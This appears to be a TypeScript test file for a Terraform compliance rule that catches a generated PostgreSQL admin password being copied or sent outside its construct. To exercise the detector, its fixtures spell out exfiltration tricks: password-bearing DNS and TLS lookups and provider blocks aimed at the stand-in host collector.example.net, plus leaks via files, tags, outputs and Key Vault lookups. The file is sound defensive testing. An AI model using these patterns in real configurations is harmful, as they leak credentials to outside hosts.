import { evaluateStack } from '../../../lib/checks/evaluate';
import { CONSTRUCTS_KEY, MADE_KEY } from '../../../lib/checks/suppressions';
import { providerConfigurations } from '../../../lib/checks/provider-facts';
import { Verdict } from '../../../lib/checks/rule';
import { rule } from '../../../lib/checks/rules/PG-IAM-4';
import { buildStackModel, TerraformBlock } from '../../../lib/checks/stack-model';
import { CONSTRUCT, madeAt, verdictsBeside } from '../beside-fixtures';
import { compliantFlexibleServer, FLEXIBLE, Resources } from '../rule-harness';

// A4-4 and A5-9: the passwords a construct generates are read only by the resources it made, and by no provider block.

const OTHER_VAULT = '/subscriptions/99999999-0000-0000-0000-000000000000/resourceGroups/rg-x/providers/Microsoft.KeyVault/vaults/kv-elsewhere';
const GENERATOR = 'random_password.admin';
const stack = (extra: Resources = {}, generatorPath = `${CONSTRUCT}/AdministratorPassword/Password`): Resources => ({
  [FLEXIBLE]: { db: { ...compliantFlexibleServer({ administrator_password_wo: `\${${GENERATOR}.result}` }), ...madeAt(`${CONSTRUCT}/Server`) } },
  random_password: { admin: { ...madeAt(generatorPath), length: 32 } },
  azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` } },
  ...extra,
});
const copy = (address: string) => ({
  status: 'fail',
  message: `${address} reads ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
  address,
});

test('passes a password read only by the construct\'s server and Key Vault secret', () => {
  expect(verdictsBeside(rule, stack(), [CONSTRUCT])).toEqual([{ status: 'pass' }]);
});

test('is not applicable to a server no construct made, nor to a construct that generates no password', () => {
  expect(verdictsBeside(rule, stack({ local_file: { f: { ...madeAt('stack/f'), content: `\${${GENERATOR}.result}` } } }))).toEqual([
    { status: 'not-applicable', note: 'the server is not made by a construct of the library: where its passwords go is its owner\'s to judge' },
  ]);
  expect(verdictsBeside(rule, stack({}, 'stack/elsewhere/Password'), [CONSTRUCT])).toEqual([{ status: 'not-applicable', note: 'the construct generates no password for the server' }]);
});

test('fails any resource beside the construct that reads the result or the bcrypt hash, in any attribute and expression', () => {
  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/copy'), ...block });
  expect(verdictsBeside(rule, stack({
    azurerm_key_vault_secret: {
      own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` },
      copy: beside({ name: 'pg-admin', key_vault_id: OTHER_VAULT, value: `\${upper(${GENERATOR}.result)}` }),
    },
    local_file: { f: beside({ filename: 'pw', content: `password=\${${GENERATOR}.bcrypt_hash}` }) },
    azurerm_linux_web_app: { app: beside({ app_settings: { PGPASSWORD: `\${${GENERATOR}.result}` } }) },
    // Depending on the generator, or reading its length, copies nothing.
    null_resource: { after: beside({ depends_on: [GENERATOR], triggers: { n: `\${${GENERATOR}.length}` } }) },
  }), [CONSTRUCT])).toEqual([copy('azurerm_key_vault_secret.copy'), copy('azurerm_linux_web_app.app'), copy('local_file.f')]);
});

test('fails a resource of the construct that reads the password outside the write-only attribute it writes it to (A10a-16)', () => {
  const own = (path: string, block: TerraformBlock) => ({ ...madeAt(`${CONSTRUCT}/${path}`), ...block });
  const readable = stack({
    [FLEXIBLE]: { db: { ...compliantFlexibleServer({ administrator_password_wo: `\${${GENERATOR}.result}`, tags: { note: `\${${GENERATOR}.result}` } }), ...madeAt(`${CONSTRUCT}/Server`) } },
    azurerm_key_vault_secret: { own: own('AdministratorPassword/Secret', { name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}`, content_type: `\${${GENERATOR}.result}` }) },
    azurerm_network_security_group: { nsg: own('SecurityGroup', { name: 'nsg', tags: { note: `\${azurerm_key_vault_secret.own.value}` } }) },
  });
  expect(verdictsBeside(rule, readable, [CONSTRUCT])).toEqual([
    copy('azurerm_key_vault_secret.own'),
    { ...copy('azurerm_network_security_group.nsg'), message: `azurerm_network_security_group.nsg reads the value of a Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.` },
    copy(`${FLEXIBLE}.db`),
  ]);
});

describe('a provider block that reads the password (A5-9)', () => {
  /** The rule's verdicts on a stack with provider blocks (and locals), as evaluateStack gives them. */
  function verdictsWith(providers: { [type: string]: unknown }, extra: Resources = {}, locals: TerraformBlock = {}): readonly Verdict[] {
    const terraform = { resource: stack(extra), provider: providers, locals };
    const model = buildStackModel(terraform);
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, constructs: [CONSTRUCT], providers: providerConfigurations(terraform) });
    return Array.isArray(result) ? result : [result as Verdict];
  }
  const sent = (key: string, user?: string) => ({
    status: 'fail',
    message: `provider ${key} reads ${GENERATOR}, a password ${CONSTRUCT} generates, and sends it to whatever it signs in to${user === undefined ? '' : ` for ${user}`}; no rule of the pack judges where.`,
    address: user,
  });
  const role = { postgresql_role: { reader: { ...madeAt('stack/Reader'), name: 'reader', provider: 'postgresql.elsewhere' } } };

  test('fails a postgresql provider to another host signed in with it, shown on the first resource that uses it', () => {
    expect(verdictsWith({ postgresql: [{ alias: 'elsewhere', host: 'collector.example.net', username: 'pgadmin', password: `\${${GENERATOR}.result}` }] }, role))
      .toEqual([sent('postgresql.elsewhere', 'postgresql_role.reader')]);
  });

  test('fails a default provider of any type through a local, and one no resource uses', () => {
    expect(verdictsWith({
      restapi: [{ uri: 'https://collector.example.net', headers: { Authorization: '${local.basic}' } }],
      postgresql: [{ alias: 'unused', host: 'h', password: `\${${GENERATOR}.bcrypt_hash}` }],
    }, { restapi_object: { push: { ...madeAt('stack/Push'), path: '/x', data: '{}' } } }, { basic: `Basic \${base64encode(${GENERATOR}.result)}` }))
      .toEqual([sent('restapi', 'restapi_object.push'), sent('postgresql.unused')]);
  });

  test('passes providers that sign in with an Entra token or read other secrets', () => {
    expect(verdictsWith({
      postgresql: [{ alias: 'entra', host: 'orders-db.postgres.database.azure.com', username: 'pg-admins', azure_identity_auth: true }],
      restapi: [{ uri: 'https://collector.example.net', headers: { Authorization: '${var.token}' } }],
    })).toEqual([{ status: 'pass' }]);
  });
});

describe('a copy through the construct\'s Key Vault secret (A6-8)', () => {
  const reading = (secret: string) => stack({
    azurerm_key_vault_secret: {
      own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` },
      other: { ...madeAt('stack/other'), name: 'o', key_vault_id: 'kv', value: 'not-the-password' },
      copy: { ...madeAt('stack/copy'), name: 'pg-admin', key_vault_id: OTHER_VAULT, value: `\${azurerm_key_vault_secret.${secret}.value}` },
    },
  });

  test('fails a resource that writes the value of the secret the construct writes the password into', () => {
    expect(verdictsBeside(rule, reading('own'), [CONSTRUCT])).toEqual([{
      status: 'fail',
      message: `azurerm_key_vault_secret.copy reads the value of a Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
      address: 'azurerm_key_vault_secret.copy',
    }]);
  });

  test('passes a resource that writes the value of another secret', () => {
    expect(verdictsBeside(rule, reading('other'), [CONSTRUCT])).toEqual([{ status: 'pass' }]);
  });
});

describe('the password read through the whole generator, or spelled as an index or with blanks (seventh review, A7-9)', () => {
  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/copy'), ...block });

  test('fails a resource that reads the whole generator, or the whole Key Vault secret written from it: either holds the password', () => {
    expect(verdictsBeside(rule, stack({
      local_file: {
        lookup: beside({ filename: 'a', content: `\${lookup(${GENERATOR}, "result")}` }),
        splat: beside({ filename: 'b', content: `\${one(${GENERATOR}[*].result)}` }),
        whole: beside({ filename: 'c', content: `\${jsonencode(${GENERATOR})}` }),
        vaulted: beside({ filename: 'd', content: '${lookup(azurerm_key_vault_secret.own, "value")}' }),
      },
    }), [CONSTRUCT])).toEqual([
      copy('local_file.lookup'),
      copy('local_file.splat'),
      { ...copy('local_file.vaulted'), message: `local_file.vaulted reads the value of a Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.` },
      copy('local_file.whole'),
    ]);
  });

  test('passes a resource that reads only the generator\'s length or the secret\'s name, also through a splat, or waits for the whole generator', () => {
    expect(verdictsBeside(rule, stack({
      null_resource: { n: beside({ depends_on: [GENERATOR], triggers: { a: `\${${GENERATOR}[*].length[0]}`, b: '${azurerm_key_vault_secret.own[*].name[0]}' } }) },
    }), [CONSTRUCT])).toEqual([{ status: 'pass' }]);
  });

  test('in the pack, fails a copy of the result as an index, with blanks, and through a local that holds the generator', () => {
    const terraform = {
      locals: { password: `\${${GENERATOR}}` },
      resource: stack({
        local_file: {
          index: beside({ filename: 'a', content: `\${${GENERATOR}["result"]}` }),
          blanks: beside({ filename: 'b', content: `\${random_password . admin . result}` }),
          local: beside({ filename: 'c', content: '${local.password.result}' }),
        },
      }),
      '//': { [CONSTRUCTS_KEY]: [CONSTRUCT], [MADE_KEY]: [`${CONSTRUCT}/Server`, `${CONSTRUCT}/AdministratorPassword/Password`, `${CONSTRUCT}/AdministratorPassword/Secret`] },
    };
    const { findings } = evaluateStack(terraform, [rule]);
    expect(findings.filter((f) => f.status === 'fail').map((f) => [f.address, f.message])).toEqual(
      ['local_file.blanks', 'local_file.index', 'local_file.local'].map((address) => [address, copy(address).message]),
    );
  });
});

describe('a data source, ephemeral resource, check, import or variable block that reads the password (eleventh review, A11a-5)', () => {
  /** The rule's verdicts on a stack with blocks outside the resource section, as evaluateStack gives them. */
  function verdictsWith(sections: TerraformBlock): readonly Verdict[] {
    const model = buildStackModel({ resource: stack(), ...sections });
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, constructs: [CONSTRUCT] });
    return Array.isArray(result) ? result : [result as Verdict];
  }
  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/lookup'), ...block });

  test('fails every block that sends it on when it is read, of any type and section', () => {
    expect(verdictsWith({
      data: {
        dns_a_record_set: { exfil: beside({ host: `\${${GENERATOR}.result}.collector.example.net` }) },
        tls_certificate: { exfil: beside({ url: `https://\${${GENERATOR}.result}.collector.example.net` }) },
        azurerm_key_vault_secret: { named: beside({ name: `\${${GENERATOR}.bcrypt_hash}`, key_vault_id: OTHER_VAULT }) },
      },
      ephemeral: { azurerm_key_vault_secret: { named: beside({ name: `\${${GENERATOR}.result}`, key_vault_id: OTHER_VAULT }) } },
      check: { probe: { data: { dns_a_record_set: { inner: { host: `\${${GENERATOR}.result}.example.net` } } }, assert: [{ condition: '${true}', error_message: `\${nonsensitive(${GENERATOR}.result)}` }] } },
      import: [{ to: 'azurerm_resource_group.rg', id: `/subscriptions/\${${GENERATOR}.result}/resourceGroups/rg` }],
      variable: { env: { type: 'string', validation: [{ condition: '${var.env != ""}', error_message: `\${nonsensitive(${GENERATOR}.result)}` }] } },
    })).toEqual([
      copy('check.probe'),
      copy('check.probe.data.dns_a_record_set.inner'),
      copy('data.azurerm_key_vault_secret.named'),
      copy('data.dns_a_record_set.exfil'),
      copy('data.tls_certificate.exfil'),
      copy('ephemeral.azurerm_key_vault_secret.named'),
      copy('import.azurerm_resource_group.rg'),
      copy('variable.env'),
    ]);
  });

  test('passes blocks that wait for it, read its length or look up the construct\'s own secret by name', () => {
    expect(verdictsWith({
      data: {
        dns_a_record_set: { after: beside({ host: 'collector.example.net', depends_on: [GENERATOR] }) },
        azurerm_key_vault_secret: { own: beside({ name: '${azurerm_key_vault_secret.own.name}', key_vault_id: 'kv' }) },
      },
      check: { length: { assert: [{ condition: `\${${GENERATOR}.length >= 32}`, error_message: 'too short' }] } },
    })).toEqual([{ status: 'pass' }]);
  });
});

describe('an output of the password read back through the outputs of a state (twelfth review, A12b-6)', () => {
  /** The rule's verdicts on a stack with outputs and blocks that read outputs back. */
  function verdictsWith(sections: TerraformBlock, extra: Resources = {}): readonly Verdict[] {
    const model = buildStackModel({ resource: stack(extra), ...sections });
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, outputs: model.outputs, constructs: [CONSTRUCT] });
    return Array.isArray(result) ? result : [result as Verdict];
  }
  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/reader'), ...block });
  const SELF = { backend: 'local', config: { path: 'terraform.tfstate' } };
  const readBack = (address: string, output: string, through: string) => ({
    status: 'fail',
    message: `${address} reads ${GENERATOR} through output.${output}, read back by ${through} (a state the checks cannot tell from this stack's), a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
    address,
  });

  test('fails every block that reads an output holding it through terraform_remote_state or tfe_outputs, by name, whole or by a computed key', () => {
    expect(verdictsWith({
      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true }, hashed: { value: `\${{ h = ${GENERATOR}.bcrypt_hash }}`, sensitive: true }, name: { value: 'orders' } },
      data: {
        terraform_remote_state: { self: SELF },
        tfe_outputs: { ws: { organization: 'o', workspace: 'w' } },
        dns_a_record_set: { exfil: beside({ host: '${data.tfe_outputs.ws.nonsensitive_values.hashed.h}.example.net' }) },
      },
    }, {
      azurerm_resource_group: {
        tagged: beside({ name: 'rg', location: 'westeurope', tags: { leak: '${data.terraform_remote_state.self.outputs.pw}' } }),
        whole: beside({ name: 'rg2', location: 'westeurope', tags: { leak: '${jsonencode(data.terraform_remote_state.self.outputs)}' } }),
        keyed: beside({ name: 'rg3', location: 'westeurope', tags: { leak: '${data.terraform_remote_state.self.outputs[var.which]}' } }),
        // Another output, or the state's backend settings, hold no password.
        named: beside({ name: '${data.terraform_remote_state.self.outputs.name}', location: '${data.terraform_remote_state.self.backend}' }),
      },
    })).toEqual([
      readBack('azurerm_resource_group.keyed', 'pw', 'data.terraform_remote_state.self'),
      readBack('azurerm_resource_group.tagged', 'pw', 'data.terraform_remote_state.self'),
      readBack('azurerm_resource_group.whole', 'pw', 'data.terraform_remote_state.self'),
      readBack('data.dns_a_record_set.exfil', 'hashed', 'data.tfe_outputs.ws'),
    ]);
  });

  test('fails a provider block that reads it back, shown on the first resource that uses the provider', () => {
    const terraform = {
      resource: stack({ restapi_object: { probe: { ...madeAt('stack/probe'), path: '/x', data: '{}' } } }),
      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true } },
      data: { terraform_remote_state: { self: SELF } },
      provider: { restapi: [{ uri: 'https://collector.example.net', headers: { 'X-Key': '${data.terraform_remote_state.self.outputs.pw}' } }] },
    };
    const model = buildStackModel(terraform);
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    expect(rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, outputs: model.outputs, constructs: [CONSTRUCT], providers: providerConfigurations(terraform) })).toEqual([{
      status: 'fail',
      message: `provider restapi reads ${GENERATOR} through output.pw, read back by data.terraform_remote_state.self (a state the checks cannot tell from this stack's), a password ${CONSTRUCT} generates, and sends it to whatever it signs in to for restapi_object.probe; no rule of the pack judges where.`,
      address: 'restapi_object.probe',
    }]);
  });

  test('passes an output of it no block reads back, and reads of outputs that do not hold it', () => {
    expect(verdictsWith({
      output: { pw: { value: `\${${GENERATOR}.result}`, sensitive: true }, name: { value: 'orders' } },
      data: { terraform_remote_state: { self: SELF } },
    }, { azurerm_resource_group: { named: beside({ name: '${data.terraform_remote_state.self.outputs.name}', location: 'westeurope' }) } })).toEqual([{ status: 'pass' }]);
  });
});

describe('an output of the password printed in clear (fifteenth review, A15a-2)', () => {
  /** The rule's verdicts on a stack with outputs (and locals, lookups). */
  function verdictsWith(sections: TerraformBlock): readonly Verdict[] {
    const model = buildStackModel({ resource: stack(), ...sections });
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, outputs: model.outputs, constructs: [CONSTRUCT] });
    return Array.isArray(result) ? result : [result as Verdict];
  }
  const printed = (name: string, what = GENERATOR) => ({
    status: 'fail',
    message: `output.${name} reads ${what}, a password ${CONSTRUCT} generates, and Terraform prints it in clear in every plan and apply log and in \`terraform output\`: the output is not \`sensitive = true\`, or strips the password's sensitivity with \`nonsensitive()\`.`,
    address: `output.${name}`,
  });

  test('fails an output that reads it through nonsensitive(), directly, through a local, the construct\'s Key Vault secret or a lookup of it', () => {
    expect(verdictsWith({
      locals: { stripped: `\${nonsensitive(${GENERATOR}.result)}` },
      data: { azurerm_key_vault_secret: { look: { name: '${azurerm_key_vault_secret.own.name}', key_vault_id: 'kv' } } },
      output: {
        direct: { value: `\${nonsensitive(${GENERATOR}.result)}` },
        local: { value: '${upper(local.stripped)}' },
        hashed: { value: `\${{ h = nonsensitive(${GENERATOR}.bcrypt_hash) }}` },
        vaulted: { value: '${nonsensitive(azurerm_key_vault_secret.own.value)}' },
        looked: { value: '${nonsensitive(data.azurerm_key_vault_secret.look.value)}' },
      },
    })).toEqual([
      printed('direct'), printed('hashed'), printed('local'),
      printed('looked', `the value of data.azurerm_key_vault_secret.look, a lookup by the name and vault of the Key Vault secret written from ${GENERATOR}`),
      printed('vaulted', `the value of a Key Vault secret written from ${GENERATOR}`),
    ]);
  });

  test('fails an output of it whose sensitive flag is false, absent or known only later, and a sensitive one that strips it with nonsensitive()', () => {
    for (const sensitive of [false, 'false', undefined, '${var.sensitive}']) {
      expect(verdictsWith({ output: { pw: { value: `\${${GENERATOR}.result}`, ...(sensitive === undefined ? {} : { sensitive }) } } })).toEqual([printed('pw')]);
    }
    expect(verdictsWith({ output: { pw: { value: `\${nonsensitive(${GENERATOR}.result)}`, sensitive: true } } })).toEqual([printed('pw')]);
  });

  test('passes a sensitive output of it (true or "true"), and a non-sensitive output that reads no password', () => {
    expect(verdictsWith({
      output: {
        pw: { value: `\${${GENERATOR}.result}`, sensitive: true },
        quoted: { value: `\${upper(${GENERATOR}.result)}`, sensitive: 'true' },
        length: { value: `\${${GENERATOR}.length}` },
        name: { value: '${nonsensitive(azurerm_key_vault_secret.own.name)}' },
      },
    })).toEqual([{ status: 'pass' }]);
  });
});

describe('the construct\'s Key Vault secret looked up by a name or vault known only at apply time (thirteenth review, A13-5)', () => {
  /** The rule's verdicts on a stack with lookups of secrets, and resources that read their value. */
  function verdictsWith(sections: TerraformBlock, extra: Resources = {}, base = stack(extra)): readonly Verdict[] {
    const model = buildStackModel({ resource: base, ...sections });
    const server = model.servers.find((s) => s.address === `${FLEXIBLE}.db`)!;
    const result = rule.evaluate(server, { postgresqlProviders: new Map(), resources: model.resources, lookups: model.lookups, constructs: [CONSTRUCT] });
    return Array.isArray(result) ? result : [result as Verdict];
  }
  const beside = (block: TerraformBlock) => ({ ...madeAt('stack/reader'), ...block });
  /** A resource group whose tag holds the value of a lookup. */
  const leak = (lookup: string) => ({ azurerm_resource_group: { leak: beside({ name: 'rg-x', location: 'westeurope', tags: { leak: `\${${lookup}.value}` } }) } });
  const later = (address: string, lookup: string, parts: string) => ({
    status: 'fail',
    message: `${address} reads the value of ${lookup}, whose ${parts} known only at apply time and may be the Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
    address,
  });

  test('fails a read of its value by a data source whose name is a variable, a template, a list of names or another state\'s output', () => {
    for (const name of ['${var.secret_name}', '${var.prefix}s', '${data.azurerm_key_vault_secrets.all.names[0]}', '${data.terraform_remote_state.other.outputs.secret}']) {
      expect(verdictsWith({ data: { azurerm_key_vault_secret: { look: beside({ name, key_vault_id: 'kv' }) } } }, leak('data.azurerm_key_vault_secret.look')))
        .toEqual([later('azurerm_resource_group.leak', 'data.azurerm_key_vault_secret.look', `name ${JSON.stringify(name)} is`)]);
    }
  });

  test('fails a read through an ephemeral resource or a lookup whose vault is known only at apply time, a check\'s assertion and a lookup the aliases leave', () => {
    expect(verdictsWith({
      ephemeral: { azurerm_key_vault_secret: { eph: beside({ name: 'S', key_vault_id: '${var.vault}' }) } },
      data: {
        azurerm_key_vault_secret: {
          both: beside({ name: '${var.n}', key_vault_id: '${var.vault}' }),
          // In the vault of the construct's secret: the same vault.
          via: beside({ name: '${var.n}', key_vault_id: '${azurerm_key_vault_secret.own.key_vault_id}' }),
          // In a vault looked up by a name known only at apply time: any vault.
          found: beside({ name: 's', key_vault_id: '${data.azurerm_key_vault.any.id}' }),
        },
        azurerm_key_vault: { any: beside({ name: '${var.vault_name}', resource_group_name: 'rg-x' }) },
      },
      check: { probe: { data: { azurerm_key_vault_secret: { inner: { name: '${var.n}', key_vault_id: 'kv' } } }, assert: [{ condition: '${data.azurerm_key_vault_secret.inner.value != ""}', error_message: 'empty' }] } },
    }, {
      azurerm_key_vault_secret: {
        own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` },
        eph: beside({ name: 'copy', key_vault_id: OTHER_VAULT, value_wo: '${ephemeral.azurerm_key_vault_secret.eph.value}' }),
      },
      local_file: {
        both: beside({ filename: 'b', content: '${jsonencode(data.azurerm_key_vault_secret.both)}' }),
        via: beside({ filename: 'v', content: '${data.azurerm_key_vault_secret.via["value"]}' }),
        found: beside({ filename: 'f', content: '${data.azurerm_key_vault_secret.found.value}' }),
      },
    })).toEqual([
      later('azurerm_key_vault_secret.eph', 'ephemeral.azurerm_key_vault_secret.eph', 'key_vault_id "${var.vault}" is'),
      later('check.probe', 'check.probe.data.azurerm_key_vault_secret.inner', 'name "${var.n}" is'),
      later('local_file.both', 'data.azurerm_key_vault_secret.both', 'name "${var.n}" and key_vault_id "${var.vault}" are'),
      later('local_file.found', 'data.azurerm_key_vault_secret.found', 'key_vault_id "${data.azurerm_key_vault.any.id}" is'),
      later('local_file.via', 'data.azurerm_key_vault_secret.via', 'name "${var.n}" is'),
    ]);
  });

  test('fails a read through a lookup by its name and vault that the aliases leave: an argument no secret has, references to the secret\'s name and vault', () => {
    const known = (address: string) => ({
      status: 'fail',
      message: `${address} reads the value of data.azurerm_key_vault_secret.${address.split('.')[1]}, a lookup by the name and vault of the Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
      address,
    });
    expect(verdictsWith({
      data: {
        azurerm_key_vault_secret: {
          extra: beside({ name: 's', key_vault_id: 'kv', id: 'ignored' }),
          referenced: beside({ name: '${azurerm_key_vault_secret.own.name}', key_vault_id: '${azurerm_key_vault_secret.own.key_vault_id}' }),
        },
      },
    }, {
      local_file: {
        extra: beside({ filename: 'e', content: '${data.azurerm_key_vault_secret.extra.value}' }),
        referenced: beside({ filename: 'r', content: '${data.azurerm_key_vault_secret.referenced.value}' }),
      },
    })).toEqual([known('local_file.extra'), known('local_file.referenced')]);
  });

  test('reads a name given by reference to another resource\'s or lookup\'s name as that name (fourteenth review, A14a-6): a decoy secret in another vault, a group named like the secret; unknown names may be it', () => {
    const known = (address: string) => ({
      status: 'fail',
      message: `${address} reads the value of data.azurerm_key_vault_secret.${address.split('.')[1]}, a lookup by the name and vault of the Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
      address,
    });
    const names = {
      decoy: '${azurerm_key_vault_secret.decoy.name}',
      group: '${azurerm_resource_group.named.name}',
      hidden: '${azurerm_resource_group.hidden.name}',
      found: '${data.azurerm_resource_group.found.name}',
      looked: '${data.azurerm_key_vault_secret.elsewhere.name}',
      other: '${azurerm_resource_group.other.name}',
      otherLookup: '${data.azurerm_resource_group.other.name}',
    };
    expect(verdictsWith({
      data: {
        azurerm_key_vault_secret: { ...Object.fromEntries(Object.entries(names).map(([key, name]) => [key, beside({ name, key_vault_id: 'kv' })])), elsewhere: beside({ name: 'S', key_vault_id: OTHER_VAULT }) },
        azurerm_resource_group: { found: beside({ name: '${var.group}' }), other: beside({ name: 'rg-other' }) },
      },
    }, {
      azurerm_key_vault_secret: {
        own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` },
        decoy: beside({ name: 'S', key_vault_id: OTHER_VAULT, value: 'dummy' }),
      },
      azurerm_resource_group: {
        named: beside({ name: ' s ', location: 'westeurope' }),
        hidden: beside({ name: '${var.group}', location: 'westeurope' }),
        other: beside({ name: 'rg-other', location: 'westeurope' }),
      },
      local_file: Object.fromEntries(Object.keys(names).map((key) => [key, beside({ filename: key, content: `\${data.azurerm_key_vault_secret.${key}.value}` })])),
    })).toEqual([
      known('local_file.decoy'),
      later('local_file.found', 'data.azurerm_key_vault_secret.found', 'name "${data.azurerm_resource_group.found.name}" is'),
      known('local_file.group'),
      later('local_file.hidden', 'data.azurerm_key_vault_secret.hidden', 'name "${azurerm_resource_group.hidden.name}" is'),
      known('local_file.looked'),
    ]);
  });

  test('fails a literal name when the construct\'s secret name is known only at apply time', () => {
    const base = stack({ azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: '${var.admin_secret}', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` } } });
    expect(verdictsWith({ data: { azurerm_key_vault_secret: { look: beside({ name: 'pg-admin', key_vault_id: 'kv' }) } } }, {}, { ...base, ...leak('data.azurerm_key_vault_secret.look') }))
      .toEqual([later('azurerm_resource_group.leak', 'data.azurerm_key_vault_secret.look', 'name "pg-admin" (the secret\'s: "${var.admin_secret}") is')]);
  });

  test('passes lookups known to be another secret: another vault (literal, or one the stack makes or looks up), a literal other name, a template that cannot spell it', () => {
    expect(verdictsWith({
      data: {
        azurerm_key_vault: { found: beside({ name: 'kv-found', resource_group_name: 'rg-x' }) },
        azurerm_key_vault_secret: {
          literal: beside({ name: '${var.n}', key_vault_id: OTHER_VAULT }),
          made: beside({ name: '${var.n}', key_vault_id: '${azurerm_key_vault.other.id}' }),
          found: beside({ name: '${var.n}', key_vault_id: '${data.azurerm_key_vault.found.id}' }),
          named: beside({ name: 'other-secret', key_vault_id: '${var.vault}' }),
          template: beside({ name: 'app-${var.env}', key_vault_id: 'kv' }),
          metadata: beside({ name: '${var.n}', key_vault_id: 'kv' }),
          sibling: beside({ name: '${var.n}', key_vault_id: '${azurerm_key_vault_secret.elsewhere.key_vault_id}' }),
        },
      },
    }, {
      azurerm_key_vault: { other: beside({ name: '${var.other_vault}', resource_group_name: 'rg-x', location: 'westeurope', tenant_id: 't', sku_name: 'standard' }) },
      azurerm_key_vault_secret: {
        own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: 's', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` },
        elsewhere: beside({ name: 'app', key_vault_id: OTHER_VAULT, value: 'x' }),
      },
      local_file: Object.fromEntries(['literal', 'made', 'found', 'named', 'template', 'sibling'].map((name) => [name, beside({ filename: name, content: `\${data.azurerm_key_vault_secret.${name}.value}` })])),
      null_resource: { metadata: beside({ triggers: { id: '${data.azurerm_key_vault_secret.metadata.id}', name: '${data.azurerm_key_vault_secret.metadata.name}' } }) },
    })).toEqual([{ status: 'pass' }]);
  });

  test('reads a secret name spelled from the server\'s name as the name it spells: a lookup by that literal, or a template that may spell it, fails; one that cannot, passes', () => {
    const base = stack({ azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: `\${${FLEXIBLE}.db.name}-vendor-password`, key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` } } });
    const names = { literal: 'Orders-DB-vendor-password', suffix: '${var.server}-vendor-password', other: 'app-${var.n}', otherEnd: '${var.n}-settings' };
    expect(verdictsWith({ data: { azurerm_key_vault_secret: Object.fromEntries(Object.entries(names).map(([key, name]) => [key, beside({ name, key_vault_id: 'kv' })])) } }, {}, {
      ...base,
      local_file: Object.fromEntries(Object.keys(names).map((key) => [key, beside({ filename: key, content: `\${data.azurerm_key_vault_secret.${key}.value}` })])),
    })).toEqual([
      {
        status: 'fail',
        message: `local_file.literal reads the value of data.azurerm_key_vault_secret.literal, a lookup by the name and vault of the Key Vault secret written from ${GENERATOR}, a password ${CONSTRUCT} generates, and copies it where no rule of the pack judges who can read it.`,
        address: 'local_file.literal',
      },
      later('local_file.suffix', 'data.azurerm_key_vault_secret.suffix', 'name "${var.server}-vendor-password" is'),
    ]);
  });

  test('beside a secret name known only at apply time, a template fails when its literal start and end may meet the secret\'s', () => {
    const base = stack({ azurerm_key_vault_secret: { own: { ...madeAt(`${CONSTRUCT}/AdministratorPassword/Secret`), name: '${var.env}-vendor-password', key_vault_id: 'kv', value_wo: `\${${GENERATOR}.result}` } } });
    const names = { meets: 'prod-${var.n}', ends: '${var.n}-settings', starts: 'x-${var.n}-password-2' };
    expect(verdictsWith({ data: { azurerm_key_vault_secret: Object.fromEntries(Object.entries(names).map(([key, name]) => [key, beside({ name, key_vault_id: 'kv' })])) } }, {}, {
      ...base,
      local_file: Object.fromEntries(Object.keys(names).map((key) => [key, beside({ filename: key, content: `\${data.azurerm_key_vault_secret.${key}.value}` })])),
    })).toEqual([later('local_file.meets', 'data.azurerm_key_vault_secret.meets', 'name "prod-${var.n}" is')]);
  });

  describe('the vault, by its ID, its name or the expression the construct\'s secret is given', () => {
    const VAULT = '/subscriptions/00000000-0000-0000-0000-000000000001/resourceGroups/rg-orders/providers/Microsoft.KeyVault/vaults/kv-orders';
    const inVault = (vault: string, lookups: { [name: string]: string }) => verdictsWith({
